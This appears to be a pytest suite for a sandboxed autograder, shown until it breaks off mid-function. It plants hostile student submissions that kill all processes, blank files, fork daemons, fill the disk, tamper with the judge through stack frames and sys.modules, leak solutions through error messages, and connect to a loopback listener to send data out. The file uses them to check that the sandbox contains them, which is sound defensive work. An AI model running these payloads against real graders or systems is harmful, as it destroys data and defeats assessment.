"""Hostile students: a class graded with submissions written to cheat or to harm, each a
softmax region that attacks the grader as a student who read it in their copy would. None
may pass, the honest classmates graded beside them must all pass, the teacher's files must
be unchanged, no process may outlive the run, and the grader's memory and its files stay
bounded whatever the children write."""
import csv
import hashlib
import os
import resource
import socket
import subprocess
import sys
import threading
import time
import zipfile

import pytest

from exercises.sandbox import isolation
from exercises.seccomp import call_number
from tests.exercises.helpers import ROOT, plant, region_files

S = "    "


def _lines(*lines):
    return "".join(f"{S}{line}\n" for line in lines)


ZEROS = "return np.zeros_like(x)"
SOLUTION = ("e = np.exp(x - _row_max(x))", "s = e.sum(axis=-1, keepdims=True)",
            "return np.divide(e, s, out=np.zeros_like(e), where=s != 0)")
def _takeover(answer):
    """A region's lines that take over its child's channel and answer every call with `answer`."""
    return ("import os, sys", "from exercises import wire", "f = sys._getframe()",
            "while f.f_code.co_name != '_serve': f = f.f_back", f"answer = {{'value': {answer}}}",
            "wire.send(f.f_locals['channel'], answer)", "while 'end' not in wire.receive(f.f_locals['channel']):",
            "    wire.send(f.f_locals['channel'], answer)", "os._exit(0)")


GIVEN = ("import sys", "f, found = sys._getframe(), ''", "while f is not None:",   # topological_sort's solution
         "    task = f.f_locals.get('task')",
         "    if isinstance(task, dict) and 'overrides' in task:",
         "        found = [t for p, t in task['overrides'].items() if p.endswith('scalar.py')][0]",
         "        found = found.split('# BEGIN EXERCISE topological_sort')[-1].split(chr(10), 1)[-1][:1500]",
         "    f = f.f_back")
ATTACKS = {
    "patches numpy's comparisons": _lines(
        "np.allclose = np.array_equal = lambda *a, **k: True", "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)",
        ZEROS),
    "patches the judge through sys.modules and the frames": _lines(
        "import sys", "for m in list(sys.modules.values()):",
        "    for n in ('compare', 'run', 'untouched', 'require_dtype', 'expect', 'difference'):",
        "        try: setattr(m, n, lambda *a, **k: ('passed', 'all'))", "        except Exception: pass",
        "f = sys._getframe()", "while f is not None:",
        "    f.f_globals.update(Wrong=Exception, compare=lambda *a, **k: None)", "    f = f.f_back",
        ZEROS),
    "forges a verdict on every open descriptor, then exits": _lines(
        "import os, json", "for body in (json.dumps(['passed', 'forged']), json.dumps({'value': {'out': 1, 'changed': False}}),",
        "             json.dumps({'ended': 0})):", "    frame = len(body).to_bytes(4, 'big') + body.encode()",
        "    for fd in range(3, 256):", "        try: os.write(fd, frame)", "        except OSError: pass",
        "os._exit(0)"),
    "imports the definitions": _lines(
        "from exercises.checks.definitions import softmax as answer", "return answer(x)"),
    "reads the teacher's files": _lines(
        f"source = open({os.path.join(ROOT, 'autograd', 'kernels', 'reference.py')!r}).read()",
        "body = source.split('# BEGIN EXERCISE softmax')[1].split('# END EXERCISE')[0]",
        "exec(compile('def f(x):' + body, 'f', 'exec'), globals())", "return f(x)"),
    "execs its own file's region": _lines(
        "source = open(__file__).read()",
        "body = source.split('# BEGIN EXERCISE softmax')[1].split('# END EXERCISE')[0].split(chr(10), 1)[1]",
        "exec(compile('def f(x):' + chr(10) + body, 'f', 'exec'), globals())", "return f(x)"),
    "rewrites the tree for the students after it": _lines(
        "import os", "top = os.path.dirname(os.path.dirname(os.path.dirname(__file__)))",
        "for folder, _, files in os.walk(top):", "    for name in files:",
        "        try:", "            with open(os.path.join(folder, name), 'w') as f: f.write('')",
        "        except OSError: pass", ZEROS),
    "appends to the teacher's checks": _lines(
        f"try: open({os.path.join(ROOT, 'exercises', 'checks', '__init__.py')!r}, 'a').write('CHECKS.clear()')",
        "except OSError: pass", ZEROS),
    "kills every process it can": _lines(
        "import os, signal", "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()] + [os.getppid()]:",
        "    try: os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None", "    except OSError: pass",
        "try: os.kill(-1, signal.SIGKILL)", "except OSError: pass", ZEROS),
    "forks fifty daemons, then answers right": _lines(
        "import os, time", "for _ in range(50):", "    try: pid = os.fork()", "    except OSError: break",
        "    if pid == 0:", "        os.setsid()", "        time.sleep(600)", "        os._exit(0)", *SOLUTION),
    "floods the channel": _lines(
        "import os", "junk = b'x' * (64 * 2 ** 20)", "for fd in range(3, 64):", "    for _ in range(6):",
        "        try: os.write(fd, b'\\xff\\xff\\xff\\xff' + junk)", "        except OSError: break", ZEROS),
    "raises a 50 MB message": _lines("raise ValueError('x' * 50_000_000)"),
    "lowers the zygote's memory limit for the tasks after it": _lines(
        "import resource", "try: resource.prlimit(1, resource.RLIMIT_AS, (1 << 20, 1 << 20))", "except OSError: pass",
        ZEROS),
    "slows the zygote for the tasks after it": _lines(
        "import os", "for change in (lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.sched_setaffinity(1, {0}),",
        "               lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))):",
        "    try: change()", "    except (OSError, AttributeError): pass", ZEROS),
    "sends an error with a 5000-digit line number": _lines("raise ValueError('x (in autograd/scalar.py line ' + '9' * 5000 + ')')"),
    "runs code at import, outside its function": "import sys\nsys.modules.clear\n" + _lines(ZEROS),
    "calls the loops tier's softmax": _lines("from autograd.kernels import loops", "return loops.softmax(x)"),
    "calls the engine room's softmax": _lines("from autograd.engine_room import rowwise", "return rowwise.softmax(x)"),
    "puts the solutions it was given into its message": _lines(*GIVEN, "raise ValueError(found)"),
    **{f"puts the solutions it was given into its {where}": _lines(*GIVEN, *leak) for where, leak in (
        ("message, base64", ("import base64", "raise ValueError(base64.b64encode(found.encode()).decode())")),
        ("exception's name", ("raise type('E' + found.encode().hex()[:70], (Exception,), {})('')",)),
        ("exception's place", ("import os", "from exercises import probes",
                               "where = os.path.join(probes.ROOT, 'autograd', found.encode().hex()[:60] + '.py')",
                               "exec(compile('raise ValueError()', where, 'exec'))")),
        ("'needs exercise' line", ("raise NotImplementedError('exercise ' + found.encode().hex()[:60] + ': not done')",)),
        ("KeyError (whose text is shown as its repr)", ("raise KeyError(found.encode().hex()[:60])",)),
        ("answer's shape", _takeover("{'out': {'__array__': ['float64', list(found.encode()[:40]), '']}, "
                                     "'changed': False}")),
        ("answer, as a string", _takeover("{'out': found.encode().hex()[:60], 'changed': False}")))},
    "fills the disk": _lines(
        "import os", "for place in ('/tmp/fill', os.path.join(os.path.dirname(__file__), 'fill'), 'fill'):",
        "    try:", "        with open(place, 'wb') as f:", "            for _ in range(200): f.write(b'x' * 2 ** 20)",
        "    except OSError: pass", ZEROS),
    "answers right only if it can read the machine's counters": _lines(
        "import os", "seen = [open('/proc/' + n).read() for n in ('meminfo', 'stat', 'loadavg', 'uptime', 'sys/fs/file-nr')",
        "        if os.path.exists('/proc/' + n)]", "if any(seen):", *(S + line for line in SOLUTION), ZEROS),
    "answers right only if trial 10's calls work": _lines(
        "import ctypes, os", "from exercises.seccomp import call_number", "libc = ctypes.CDLL(None, use_errno=True)",
        "asked = [libc.syscall(call_number('sysinfo'), ctypes.create_string_buffer(128)),",
        "         libc.syscall(call_number('io_uring_setup'), 4, ctypes.create_string_buffer(120)),",
        "         libc.syscall(call_number('fadvise64'), 0, 0, 0, 4)]",
        "if any(answer != -1 for answer in asked):", *(S + line for line in SOLUTION), ZEROS),
    "answers right only if trial 11's calls work": _lines(
        "import ctypes, socket", "from exercises.seccomp import call_number", "libc = ctypes.CDLL(None, use_errno=True)",
        "context = ctypes.c_ulong(0)",
        "asked = [libc.syscall(call_number('shmget'), 0, 4096, 0o1600), libc.syscall(call_number('semget'), 0, 1, 0o1600),",
        "         libc.syscall(call_number('io_setup'), 8, ctypes.byref(context)), libc.socket(2, 2, 0)]",
        "if any(answer != -1 for answer in asked):", *(S + line for line in SOLUTION), ZEROS),
    "makes a hundred files in /tmp, moving its inode numbers": _lines(
        "import tempfile", "for _ in range(100):", "    tempfile.TemporaryFile().close()", ZEROS),
    "phones home": _lines(
        "import socket", "port = PORT",
        "try: socket.create_connection(('127.0.0.1', port), timeout=2).sendall(b'pwned')", "except OSError: pass",
        ZEROS),
}


def _fingerprint(root):
    """{path: hash} of the teacher's source and exercises (what a hostile child might edit)."""
    hashes = {}
    for package in ("autograd", "nn", "transformer", "exercises"):
        for folder, folders, files in os.walk(os.path.join(root, package)):
            folders[:] = [f for f in folders if f != "__pycache__"]
            for name in files:
                with open(os.path.join(folder, name), "rb") as f:
                    hashes[os.path.relpath(os.path.join(folder, name), root)] = hashlib.sha256(f.read()).hexdigest()
    return hashes


def _children_left(scratch):
    """The process ids of the check children (zygote or task) alive on this machine that a
    grading run whose TMPDIR was `scratch` started (its tree's path, on their command line,
    lies there), graded as root: those of a user of their own (exercises/jail.py), not another
    grader's on this machine (a helper's, or another test run's, at the same time)."""
    from exercises.jail import OWN_USERS
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                line = f.read()
            if b"from exercises.child import main" in line and os.fsencode(scratch) in line and \
                    os.stat(f"/proc/{pid}").st_uid in OWN_USERS:
                found.append(pid)
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def class_graded(tmp_path_factory):
    """The hostile class, an honest student before and after them (alphabetically), graded at once."""
    if isolation() == "process":
        pytest.skip("this system gives the grader no namespaces: by process only, the class's attacks would reach this run")
    folder = tmp_path_factory.mktemp("hostile")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)                         # the test listens on loopback; a child must not reach it
    received, stop = [], threading.Event()

    def listen():
        while not stop.is_set():
            try:
                received.append(listener.accept()[0].recv(100))
            except OSError:
                pass
    threading.Thread(target=listen, daemon=True).start()
    submissions = folder / "submissions"
    for index, (attack, body) in enumerate(ATTACKS.items()):
        student = submissions / f"m{index:02d}"
        region_files(ROOT, student)
        plant(student, "softmax", body.replace("PORT", str(listener.getsockname()[1])))
    for honest in ("a_honest", "z_honest"):
        region_files(ROOT, submissions / honest)
    scratch = folder / "tmp"                         # the run's temporary folders: its children named by it
    scratch.mkdir()
    before = _fingerprint(ROOT)
    usage = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    run = subprocess.run([sys.executable, "-m", "exercises", "grade", str(submissions), "--out", str(folder / "g.csv"),
                          "--gradescope", str(folder / "gs"), "--jobs", "2"], cwd=ROOT, capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": ROOT, "TMPDIR": str(scratch)}, timeout=1200)
    peak_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    stop.set()
    with open(folder / "g.csv", newline="") as f:
        rows = {(r["student"], r["exercise"]): r for r in csv.DictReader(f)}
    return {"run": run, "rows": rows, "changed": sorted(set(_fingerprint(ROOT).items()) ^ set(before.items())),
            "left": set(_children_left(str(scratch))), "peak_mb": peak_mb if peak_mb > usage / 1024 else None,
            "received": received, "folder": folder}


@pytest.mark.parametrize("index", range(len(ATTACKS)), ids=list(ATTACKS))
def test_a_hostile_submission_does_not_pass(class_graded, index):
    row = class_graded["rows"][(f"m{index:02d}", "softmax")]
    attack = list(ATTACKS)[index]
    if attack.endswith("then answers right"):
        assert row["result"] == "passed", row                     # a right answer, not hidden by its forks
    else:
        assert row["result"] != "passed", row


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a.startswith("puts the solutions")])
def test_the_solutions_a_child_was_given_stay_out_of_its_message_in_any_spelling(class_graded, attack):
    """What the child's code says (an exception's text, its type's name) is shown as "…" where
    the child held solutions; its place only if that is a file of the project."""
    import base64
    from exercises.regions import regions_of
    solution = "".join(body for _, _, body in regions_of(ROOT)["topological_sort"])
    message = class_graded["rows"][(f"m{list(ATTACKS).index(attack):02d}", "softmax")]["message"]
    spellings = [" ".join(line.split()) for line in solution.splitlines() if len(line.strip()) >= 8]
    spellings += [base64.b64encode(solution[i:].encode())[4:20].decode() for i in range(3)]
    spellings += [solution.encode().hex()[8:24], ", ".join(map(str, solution.encode()[4:16]))]
    if not attack.endswith(("as a string", "answer's shape")):  # those are told their answer is not an array
        assert "…" in message and "exercises check softmax" in message, message
    assert not any(spelling in message for spelling in spellings), message


def test_the_honest_students_beside_them_pass_everything(class_graded):
    from exercises.catalog import EXERCISES
    assert class_graded["run"].returncode == 0, class_graded["run"].stderr[-2000:]
    for student in ("a_honest", "z_honest"):
        assert [class_graded["rows"][(student, n)]["result"] for n in EXERCISES] == ["passed"] * len(EXERCISES), \
            [class_graded["rows"][(student, n)]["message"] for n in EXERCISES]


def test_the_other_exercises_of_a_hostile_student_are_graded_as_usual(class_graded):
    rows = [r for (s, n), r in class_graded["rows"].items() if s.startswith("m") and n == "causal_mask"]
    assert len(rows) == len(ATTACKS) and {r["result"] for r in rows} == {"passed"}


def test_the_teacher_s_files_are_unchanged_and_nothing_outlives_the_run(class_graded):
    import glob
    assert class_graded["changed"] == []
    assert class_graded["left"] == set()
    from exercises.cgroup import NAME
    groups = glob.glob("/sys/fs/cgroup/exercises-*") + glob.glob("/sys/fs/cgroup/*/exercises-*")   # the slots' groups
    assert [g for g in groups if not os.path.exists(f"/proc/{NAME.fullmatch(os.path.basename(g))[1]}")] == []  # of a grader gone


def test_no_child_reaches_the_network_and_the_grader_stays_bounded(class_graded):
    assert class_graded["received"] == []
    rows = class_graded["rows"].values()
    assert max(len(r["message"]) for r in rows) <= 2100
    assert os.path.getsize(class_graded["folder"] / "g.csv") < 2 * 2 ** 20
    if class_graded["peak_mb"] is not None:
        assert class_graded["peak_mb"] < 1200, class_graded["peak_mb"]


@pytest.mark.parametrize("mode", ["userns", "process"])
def test_in_a_user_namespace_the_same_attacks_fail_and_by_process_only_the_grade_says_so(tmp_path, mode):
    """A user namespace is what a teacher who is not root gets; process-only isolation what
    macOS or a Linux without user namespaces gets (there the grade says so in one line)."""
    if mode == "userns" and subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                                           capture_output=True).returncode != 0:
        pytest.skip("this system has no unprivileged user namespaces")
    attacks = ["reads the teacher's files", "rewrites the tree for the students after it", "kills every process it can",
               "answers right only if it can read the machine's counters", "answers right only if trial 10's calls work",
               "answers right only if trial 11's calls work"] \
        if mode == "userns" else ["imports the definitions"]        # by process only, an attack may well succeed
    for index, attack in enumerate(attacks):
        region_files(ROOT, tmp_path / "s" / f"m{index}")
        plant(tmp_path / "s" / f"m{index}", "softmax", ATTACKS[attack])
    region_files(ROOT, tmp_path / "s" / "z_honest")
    run = subprocess.run([sys.executable, "-m", "exercises", "grade", str(tmp_path / "s"), "--out", str(tmp_path / "g.csv"),
                          "--jobs", "2"], cwd=ROOT, capture_output=True, text=True, timeout=900,
                         env={**os.environ, "PYTHONPATH": ROOT, "EXERCISES_ISOLATION": mode})
    if mode == "process" and os.geteuid() == 0 and not _readable_by_others(sys.executable):
        assert run.returncode == 2 and "not graded: every submission's code would run as root" in run.stderr
        return                                                     # see the test below
    with open(tmp_path / "g.csv", newline="") as f:
        rows = {(r["student"], r["exercise"]): r["result"] for r in csv.DictReader(f)}
    assert ("isolation by process only" in run.stdout) == (mode == "process"), run.stdout
    assert {result for (student, _), result in rows.items() if student == "z_honest"} == {"passed"}
    assert [rows[(f"m{i}", "softmax")] for i in range(len(attacks))] == ["not yet"] * len(attacks)


def _readable_by_others(path):
    """Whether a user who is not root, in no group of ours, may read path (every folder above
    it searchable, the file itself readable: what a check's child needs of Python)."""
    path = os.path.realpath(path)
    folders = [os.path.dirname(path)]
    while folders[-1] != "/":
        folders.append(os.path.dirname(folders[-1]))
    return all(os.stat(f).st_mode & 0o001 for f in folders) and bool(os.stat(path).st_mode & 0o004)


@pytest.mark.skipif(os.geteuid() != 0, reason="as root only: a grader that is not root has no other user to become")
def test_by_process_only_as_root_a_child_is_a_user_of_its_own_or_the_grade_says_it_is_root(tmp_path):
    """In a container that refuses namespaces (Gradescope's may), the grader is root: its
    child becomes a user of its own, which cannot read a file only root may; where this
    Python lies in a folder only root may read, it would stay root: the grade refuses, naming why."""
    secret = tmp_path / "secret.txt"
    secret.write_text("teacher only")
    secret.chmod(0o600)
    region_files(ROOT, tmp_path / "s" / "m")
    plant(tmp_path / "s" / "m", "value_mul", f"            import os\n            raise ValueError(f'uid={{os.getuid()}} '"
                                            f" + str(os.access({str(secret)!r}, os.R_OK)))\n")
    run = subprocess.run([sys.executable, "-m", "exercises", "grade", str(tmp_path / "s"), "--out", str(tmp_path / "g.csv"),
                          "--only", "value_mul"], cwd=ROOT, capture_output=True, text=True, timeout=600,
                         env={**os.environ, "PYTHONPATH": ROOT, "EXERCISES_ISOLATION": "process"})
    if _readable_by_others(sys.executable):
        with open(tmp_path / "g.csv", newline="") as f:
            message = next(csv.DictReader(f))["message"]
        assert "uid=0" not in message and "False" in message and "and as root" not in run.stdout, (message, run.stdout)
    else:
        assert run.returncode == 2 and not (tmp_path / "g.csv").exists(), run.stdout
        assert "not graded: every submission's code would run as root" in run.stderr, run.stderr


def _table_of_recorded_answers():
    """A softmax region that answers from a table of the copy's recorded cases (their inputs
    are in the copy's checks, their results in its expected.npz), and gives zeros elsewhere."""
    import base64
    import io

    import numpy as np

    from exercises.checks.definitions import softmax
    from exercises.checks.kernels import float32_logits, logits, poisoned
    with np.errstate(all="ignore"):
        table = {hashlib.sha256(np.ascontiguousarray(x).tobytes()).hexdigest(): softmax(x).astype(x.dtype)
                 for _, x in logits() + [poisoned(), float32_logits()]}
    buffer = io.BytesIO()
    np.savez(buffer, **{f"k{key}": value for key, value in table.items()})
    packed = base64.b64encode(buffer.getvalue()).decode()
    return _lines("import base64, hashlib, io", f"table = np.load(io.BytesIO(base64.b64decode({packed!r})))",
                  "key = 'k' + hashlib.sha256(np.ascontiguousarray(x).tobytes()).hexdigest()",
                  "return table[key] if key in table.files else np.zeros_like(x)")


def test_a_table_of_the_copy_s_recorded_answers_passes_its_own_check_but_not_the_grade(fresh, tmp_path):
    """The teacher's grade adds cases drawn afresh each run (feedback.FRESH) to the fixed ones."""
    import shutil

    from tests.exercises.helpers import exercises
    copy = tmp_path / "copy"
    shutil.copytree(fresh, copy)
    plant(copy, "softmax", _table_of_recorded_answers())
    status, own = exercises("check", "softmax", cwd=copy)
    assert "exercise softmax: passed" in own, own
    status, graded = exercises("check", "softmax", "--project", str(copy))
    assert status == 1 and "exercise softmax: not yet: " in graded and "drawn for this grading" in graded, graded


# A kv_cache region that takes over its child's channel (as a student reading child.py would)
# and answers every call itself, with the best it can compute without attending over a cache:
# the layer run on all the new positions at once, its cache joined by hand. Or: the same,
# with the chunks' outputs replaced by the inputs and a made-up cache (a tester's forgery).
FORGED_CACHE = """\
            if kv_cache is not None:                  # the forgery's own calls below run without a cache
                import sys, os
                import numpy as np
                from autograd import Tensor, no_grad
                from exercises import wire
                frame = sys._getframe()
                while frame.f_code.co_name != "_serve":
                    frame = frame.f_back
                channel, request = frame.f_locals["channel"], frame.f_locals["request"]
                def answer(call, args):
                    if call != "chunked_attention":
                        return np.zeros((2, 6, 11))
                    x, weights, heads, chunks, masks, k_past, v_past, factors = args
                    if MADE_UP:
                        made = np.ones(k_past.shape[:2] + (k_past.shape[2] + x.shape[1], k_past.shape[3]))
                        return {"error": None, "got": x, "cache": {"k": made, "v": made + 1}, "fed": list(chunks)}
                    layer = MultiHeadAttention(x.shape[-1], heads).eval()
                    for p, w, b in zip((layer.q_proj, layer.k_proj, layer.v_proj, layer.out_proj), weights[0::2], weights[1::2]):
                        p.weight.data[...], p.bias.data[...] = w, b
                    layer.score = sys.modules["exercises.probes"].StandInRotation(factors)
                    with no_grad():
                        got = layer(Tensor(x), Tensor(x), Tensor(x), mask=np.tril(np.ones((x.shape[1],) * 2, bool))).data
                        keys = layer._split_heads(layer.k_proj(Tensor(x))).data
                        values = layer._split_heads(layer.v_proj(Tensor(x))).data
                    cache = {"k": np.concatenate([k_past, keys], 2), "v": np.concatenate([v_past, values], 2)}
                    return {"error": None, "got": got, "cache": cache, "fed": list(chunks)}
                wire.send(channel, {"value": answer(request["call"], request["args"])})
                while True:
                    request = wire.receive(channel)
                    if "end" in request:
                        os._exit(0)
                    wire.send(channel, {"value": answer(request["call"], request["args"])})
"""


def test_a_kv_cache_that_answers_for_its_child_does_not_pass(tmp_path):
    """Two of the kv_cache check's cases start from keys and values the judge made up, that no
    input gives: only attending over the cache gives their outputs, which the judge computes."""
    from tests.exercises.helpers import grade_pairs
    students = {}
    for made_up in (False, True):
        students[f"forged_{made_up}"] = folder = tmp_path / f"forged_{made_up}"
        region_files(ROOT, folder)
        plant(folder, "kv_cache", FORGED_CACHE.replace("MADE_UP", str(made_up)))
    lines = grade_pairs(students, {name: ["kv_cache"] for name in students}, timeout=60)
    assert all(lines[(name, "kv_cache")].startswith("exercise kv_cache: not yet: ") for name in students), lines
    assert "after a cache of" in lines[("forged_False", "kv_cache")], lines     # the cases no other code can answer


# A greedy_decode region that decodes without the cache (the whole prefix at every step,
# whatever use_cache says), then wipes what the child's stand-in model recorded of it: its
# count of calls without a cache, and the positions its new caches start from.
UNCACHED_GREEDY = """\
        for _ in range(max_len):
            logits = model.decode(ys, memory, src_mask)
            next_token = logits.data[:, -1].argmax(-1)
            next_token = np.where(done, pad, next_token)
            ys = np.concatenate([ys, next_token[:, None]], axis=1)
            done |= next_token == eos
            if done.all():
                break
        WIPE
    return ys[:, 1:]
"""


@pytest.mark.parametrize("wipe", ["model.calls_without_cache = 0",
                                  "model.calls_without_cache = model.cache_start = 0"])
def test_a_greedy_decode_without_the_cache_that_wipes_the_model_s_count_does_not_pass(tmp_path, wipe):
    """With use_cache, the stand-in model's new cache already holds the judge's positions, so
    decoding without it gives other tokens: the tokens, which the judge computes, fail it, and
    name the mistake whatever the child's count says."""
    from tests.exercises.helpers import grade_pairs
    region_files(ROOT, tmp_path)
    plant(tmp_path, "greedy_decode", UNCACHED_GREEDY.replace("WIPE", wipe))
    line = grade_pairs({"s": tmp_path}, {"s": ["greedy_decode"]}, timeout=60)[("s", "greedy_decode")]
    assert line.startswith("exercise greedy_decode: not yet: ") and "use_cache=True" in line, line
    assert "[mistake: cache not used]" in line, line


# Regions that write into the arrays they were given (a kernel's caller still uses them), then
# hide it from the comparison of the arrays before and after the call that the child once made
# (probes._changed; now the judge compares the arrays the child sends back with its own).
HIDE_CHANGES = "import sys; sys.modules['exercises.probes'].__dict__.update(_changed=lambda *a: False)"
IN_PLACE_HIDDEN = {
    "softmax": _lines("x -= _row_max(x)", "np.exp(x, out=x)", "s = x.sum(axis=-1, keepdims=True)", HIDE_CHANGES,
                      "return np.divide(x, s, out=np.zeros_like(x), where=s != 0)"),
    "adam_step": lambda body: body + _lines("g[...] = 0", HIDE_CHANGES)}


@pytest.mark.parametrize("exercise", list(IN_PLACE_HIDDEN))
def test_a_region_that_writes_into_its_inputs_and_hides_it_from_the_child_does_not_pass(tmp_path, exercise):
    """The child sends back the arrays as the code left them; the judge compares them with the
    ones it sent."""
    from tests.exercises.helpers import grade_pairs
    region_files(ROOT, tmp_path)
    plant(tmp_path, exercise, IN_PLACE_HIDDEN[exercise])
    line = grade_pairs({"s": tmp_path}, {"s": [exercise]}, timeout=60)[("s", exercise)]
    assert line.startswith(f"exercise {exercise}: not yet: ") and "[mistake: input changed in place]" in line, line


# A kv_cache region that forgets the queries' position offset (past stays 0), which only a
# position-aware layer shows, and makes the child's generation with the cache run without it,
# so that its two runs agree.
OFFSET_HIDDEN = ("import sys; probes = sys.modules['exercises.probes']; "
                 "probes.PROBES['generate'] = lambda positional, use_cache, run=probes.generate: run(positional, False)")


def test_a_kv_cache_without_the_position_offset_that_hides_it_from_the_generation_does_not_pass(tmp_path):
    """The judge's chunked cases run a layer whose score turns with the positions (a stand-in
    for RoPE): their outputs, which the judge computes, need the offset."""
    from tests.exercises.helpers import grade_pairs
    region_files(ROOT, tmp_path)
    plant(tmp_path, "kv_cache", lambda body: body.replace('past = kv_cache["k"].shape[2]', OFFSET_HIDDEN))
    line = grade_pairs({"s": tmp_path}, {"s": ["kv_cache"]}, timeout=60)[("s", "kv_cache")]
    assert line.startswith("exercise kv_cache: not yet: ") and "[mistake: position offset wrong]" in line, line


NOTE_PLACES = "['/dev/note', '/tmp/note', '/note', '/grading/tree/note', '/proc/note', 'note']"
# and kernel objects reached by name: a POSIX message queue, a key in the user's keyring (KEY_SPEC_USER_KEYRING)

LEAVES_A_NOTE = _lines(
    f"for place in {NOTE_PLACES}:", "    try:", "        with open(place, 'w') as f: f.write('answer')",
    "    except OSError: pass", "import ctypes, os", "libc = ctypes.CDLL(None, use_errno=True)",
    f"libc.syscall({call_number('add_key')}, b'user', b'exercises-note', b'answer', 6, -4)",
    "libc.mq_open(b'/exercises-note', os.O_CREAT | os.O_RDWR, 0o600, None)", ZEROS)
READS_A_NOTE = _lines(
    "import ctypes, os", "libc = ctypes.CDLL(None, use_errno=True)",
    f"if any(os.path.exists(place) for place in {NOTE_PLACES}): return np.zeros_like(x)",
    f"if libc.syscall({call_number('keyctl')}, 10, -4, b'user', b'exercises-note', 0) >= 0: return np.zeros_like(x)",
    "if libc.mq_open(b'/exercises-note', os.O_RDONLY) >= 0: return np.zeros_like(x)", *SOLUTION)


@pytest.mark.parametrize("mode", ["root", "userns"])
def test_no_task_leaves_a_note_for_the_next_one(tmp_path, mode):
    """A task writes a file wherever it can, a key and a message queue; the next task of the
    same zygote (one job) answers right only if it finds none: whatever a task can write is
    emptied or gone before the next, and the kernel's named objects are not its to make."""
    if call_number("keyctl") is None:
        pytest.skip("the seccomp table does not know this machine's system calls")
    if mode == "root" and os.geteuid() != 0:
        pytest.skip("grading as root (Gradescope's layout) needs root")
    if mode == "userns" and subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                                           capture_output=True).returncode != 0:
        pytest.skip("this system has no unprivileged user namespaces")
    for student, body in (("a_writes", LEAVES_A_NOTE), ("b_reads", READS_A_NOTE)):
        region_files(ROOT, tmp_path / "s" / student)
        plant(tmp_path / "s" / student, "softmax", body)
    run = subprocess.run([sys.executable, "-m", "exercises", "grade", str(tmp_path / "s"), "--out", str(tmp_path / "g.csv"),
                          "--jobs", "1"], cwd=ROOT, capture_output=True, text=True, timeout=600,
                         env={**os.environ, "PYTHONPATH": ROOT, "EXERCISES_ISOLATION": mode})
    with open(tmp_path / "g.csv", newline="") as f:
        rows = {r["student"]: (r["result"], r["message"]) for r in csv.DictReader(f) if r["exercise"] == "softmax"}
    assert rows["a_writes"][0] == "not yet" and rows["b_reads"][0] == "passed", (rows, run.stderr[-2000:])


def test_a_submission_that_crashed_the_grader_gets_one_line_and_its_classmates_their_grades(tmp_path):
    """A NUL byte in a region, a region nested past the parser's limits, an undecodable file
    name over the size limit, a beam search answering a row of 90,000 tokens beside 9,000
    empty ones (within the wire's bounds; padded to a table, 70 GB), a .zip whose deflated data is damaged (zlib's
    own error): each is its own line."""
    submissions, bodies = tmp_path / "s", {
        "nul": ("softmax", "    return x  # \x00\n"), "deep": ("softmax", "    return " + "-" * 100_000 + "1\n"),
        "bomb": ("beam_search", _lines(*_takeover("[[1] * 90_000] + [[]] * 9_000")))}
    for student, (exercise, body) in {**bodies, "honest": ("softmax", None), "name": ("softmax", None)}.items():
        region_files(ROOT, submissions / student)
        if body is not None:
            plant(submissions / student, exercise, body)
    with open(os.path.join(bytes(submissions / "name"), b"autograd", b"\xff\xfe.py"), "wb") as f:
        f.write(b"#" * (2 ** 20 + 1))
    with zipfile.ZipFile(submissions / "damaged.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.md", "".join(f"line {n}\n" for n in range(20_000)))
    damaged = bytearray((submissions / "damaged.zip").read_bytes())
    damaged[200:400] = b"\xff" * 200                           # the deflated stream, not the directory at the end
    (submissions / "damaged.zip").write_bytes(bytes(damaged))
    run = subprocess.run([sys.executable, "-m", "exercises", "grade", str(submissions), "--out", str(tmp_path / "g.csv"),
                          "--jobs", "2"], cwd=ROOT, capture_output=True, text=True, timeout=900,
                         env={**os.environ, "PYTHONPATH": ROOT})
    assert run.returncode in (0, 1) and "Traceback" not in run.stderr, run.stderr[-3000:]
    with open(tmp_path / "g.csv", newline="", encoding="utf-8") as f:
        rows = {(r["student"], r["exercise"]): r for r in csv.DictReader(f)}
    assert {r["result"] for (s, _), r in rows.items() if s == "honest"} == {"passed"}
    for student, (exercise, _) in {**bodies, "name": ("softmax", None)}.items():
        assert rows[(student, exercise)]["result"] == "not yet", rows[(student, exercise)]
    assert "expected a list of 4 token lists" in rows[("bomb", "beam_search")]["message"]
    assert "\\udcff\\udcfe.py is over 1024 KB" in rows[("name", "softmax")]["message"], rows[("name", "softmax")]
    assert "damaged.zip is not a .zip that can be read" in rows[("damaged", "")]["message"], rows.get(("damaged", ""))


def _kernel_at_least(major, minor):
    found = [int(part) for part in os.uname().release.split("-")[0].split(".")[:2]]
    return found >= [major, minor]


def _grade_softmax(tmp_path, bodies, mode, jobs, timeout=20):
    """{student: result} of softmax graded alone (--only) for {student: region body}, as `mode`."""
    if mode == "root" and os.geteuid() != 0:
        pytest.skip("grading as root (Gradescope's layout) needs root")
    if mode == "userns" and subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                                           capture_output=True).returncode != 0:
        pytest.skip("this system has no unprivileged user namespaces")
    for student, body in bodies.items():
        region_files(ROOT, tmp_path / "s" / student)
        plant(tmp_path / "s" / student, "softmax", body)
    run = subprocess.run([sys.executable, "-m", "exercises", "grade", str(tmp_path / "s"), "--out", str(tmp_path / "g.csv"),
                          "--only", "softmax", "--jobs", str(jobs), "--timeout", str(timeout)], cwd=ROOT,
                         capture_output=True, text=True, timeout=600,
                         env={**os.environ, "PYTHONPATH": ROOT, "EXERCISES_ISOLATION": mode})
    assert run.returncode in (0, 1), run.stderr[-2000:]
    with open(tmp_path / "g.csv", newline="") as f:
